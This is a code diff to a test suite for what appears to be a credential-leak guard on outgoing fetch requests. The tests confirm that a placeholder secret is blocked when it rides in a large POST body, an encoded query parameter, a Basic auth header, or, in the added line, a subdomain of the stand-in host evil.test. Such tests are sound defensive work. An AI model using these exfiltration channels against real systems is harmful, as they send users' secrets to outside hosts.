@@ -105,6 +105,7 @@ describe("a fetch with a credential", () => {
     const body = Buffer.from(`${"x".repeat(100_000)}${placeholder}`);
     expect(await reasonOf(fetched(url(), { method: "POST", body }))).toBe("stray_credential");
     expect(await reasonOf(fetched(`${url()}?t=${placeholder.replace("s", "%73")}`))).toBe("stray_credential");
+    expect(await reasonOf(fetched(`http://${placeholder}.evil.test/`))).toBe("stray_credential");
     const basic = Buffer.from(`me:${placeholder}`).toString("base64");
     expect(await reasonOf(fetched(url(), { headers: [["authorization", `Basic ${basic}`]] }))).toBe("stray_credential");
     expect([seen, lab.seen, lab.dns.log]).toEqual([[], [], []]);
